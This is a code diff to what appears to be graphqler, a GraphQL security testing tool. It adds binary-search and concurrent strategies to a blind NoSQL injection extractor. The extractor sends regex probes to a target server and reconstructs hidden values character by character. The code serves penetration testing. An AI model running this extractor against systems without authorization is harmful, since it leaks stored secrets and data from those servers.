@@ -1,4 +1,7 @@
+from concurrent.futures import ThreadPoolExecutor
+
 from graphqler.utils import plugins_handler
+from graphqler.utils.run_context import in_current_context
 from graphqler import config
 
 
@@ -32,6 +35,30 @@ def _make_regex_payload(payload: str, prefix: str) -> str:
     return payload
 
 
+def _make_character_class(chars: str) -> str:
+    """Build a regex character class matching any of *chars*, ready to be placed
+    after the prefix in ``_make_regex_payload``.
+
+    Characters that are special inside a class are backslash-escaped, and each
+    backslash is itself escaped twice since the regex lives in a JSON string
+    inside a GraphQL string.
+    """
+    escaped = "".join("\\" + c if c in "\\]^-" else c for c in chars)
+    return "[" + escaped.replace("\\", "\\\\\\\\") + "]"
+
+
+def _split(candidates: str, groups: int) -> list[str]:
+    """Split *candidates* into *groups* contiguous, nearly equal, non-empty groups."""
+    groups = min(groups, len(candidates))
+    size, remainder = divmod(len(candidates), groups)
+    result, start = [], 0
+    for i in range(groups):
+        end = start + size + (1 if i < remainder else 0)
+        result.append(candidates[start:end])
+        start = end
+    return result
+
+
 def _has_data(graphql_response: dict | None) -> bool:
     """Return True when the server returned non-empty ``data``."""
     if graphql_response is None:
@@ -62,6 +89,14 @@ class BlindNoSQLExtractor:
     - Stop when a full charset pass produces no new character, or the length cap
       ``NOSQLI_MAX_EXTRACTION_LENGTH`` is reached
 
+    With ``NOSQLI_EXTRACTION_STRATEGY = "binary"`` each position is instead
+    binary-searched with character classes (``^extracted[0-7]``), which takes
+    about log2(len(charset)) requests per character instead of up to
+    len(charset).  ``NOSQLI_EXTRACTION_CONCURRENCY > 1`` sends the probes of a
+    step at once (several candidates for the linear strategy, a k-ary split of
+    the candidates for the binary one), through the transport's concurrent
+    sender when it has one (the async transport), or else a thread pool.
+
     Only runs when ``config.NOSQLI_BLIND_EXTRACTION`` is ``True``.
     """
 
@@ -70,27 +105,69 @@ class BlindNoSQLExtractor:
         self.payload = payload
         self.charset = config.NOSQLI_EXTRACTION_CHARSET
         self.max_length = config.NOSQLI_MAX_EXTRACTION_LENGTH
+        self.strategy = config.NOSQLI_EXTRACTION_STRATEGY
+        self.concurrency = max(1, config.NOSQLI_EXTRACTION_CONCURRENCY)
 
     def extract(self) -> str:
         """Run the extraction loop and return whatever was extracted (may be empty)."""
-        if not config.NOSQLI_BLIND_EXTRACTION:
+        if not config.NOSQLI_BLIND_EXTRACTION or not self.charset:
+            return ""
+        if _make_regex_payload(self.payload, "") == self.payload:
+            # No operator marker found in payload — cannot extract
             return ""
 
+        find_next_char = self._find_next_char_binary if self.strategy == "binary" else self._find_next_char_linear
         extracted = ""
         while len(extracted) < self.max_length:
-            found_char = False
-            for c in self.charset:
-                candidate = extracted + c
-                probed = _make_regex_payload(self.payload, candidate)
-                if probed == self.payload:
-                    # No operator marker found in payload — cannot extract
-                    return extracted
-                graphql_response, _ = plugins_handler.get_request_utils().send_graphql_request(self.url, probed)
-                if _has_data(graphql_response):
-                    extracted = candidate
-                    found_char = True
-                    break
-            if not found_char:
+            next_char = find_next_char(extracted)
+            if next_char is None:
                 break
+            extracted += next_char
 
         return extracted
+
+    def _find_next_char_linear(self, extracted: str) -> str | None:
+        """Try the charset in order, ``concurrency`` candidates at a time."""
+        for start in range(0, len(self.charset), self.concurrency):
+            candidates = self.charset[start:start + self.concurrency]
+            matches = self._probe([extracted + c for c in candidates])
+            for c, matched in zip(candidates, matches):
+                if matched:
+                    return c
+        return None
+
+    def _find_next_char_binary(self, extracted: str) -> str | None:
+        """Narrow the candidates down with character classes.
+
+        Each step splits the candidates into ``max(2, concurrency)`` groups and
+        probes all of them but the last: the first matching group is kept, or
+        the last one when none matched.  The remaining candidate is only probed
+        on its own when no probe ever matched (i.e. there may be no next char).
+        """
+        candidates = self.charset
+        confirmed = False
+        while len(candidates) > 1:
+            groups = _split(candidates, max(2, self.concurrency))
+            matches = self._probe([extracted + _make_character_class(group) for group in groups[:-1]])
+            matched_group = next((group for group, matched in zip(groups, matches) if matched), None)
+            confirmed = confirmed or matched_group is not None
+            candidates = matched_group if matched_group is not None else groups[-1]
+        if not confirmed:
+            confirmed = self._probe([extracted + _make_character_class(candidates)])[0]
+        return candidates if confirmed else None
+
+    def _probe(self, patterns: list[str]) -> list[bool]:
+        """Send one probe per regex pattern (concurrently when configured) and
+        return whether each one matched."""
+        payloads = [_make_regex_payload(self.payload, pattern) for pattern in patterns]
+        request_utils = plugins_handler.get_request_utils()
+        if self.concurrency == 1 or len(payloads) == 1:
+            return [_has_data(request_utils.send_graphql_request(self.url, payload)[0]) for payload in payloads]
+
+        if hasattr(request_utils, "send_graphql_requests_concurrently"):
+            responses = request_utils.send_graphql_requests_concurrently(self.url, payloads)
+        else:
+            send = in_current_context(request_utils.send_graphql_request)
+            with ThreadPoolExecutor(max_workers=min(self.concurrency, len(payloads))) as executor:
+                responses = list(executor.map(lambda payload: send(self.url, payload), payloads))
+        return [not isinstance(response, BaseException) and _has_data(response[0]) for response in responses]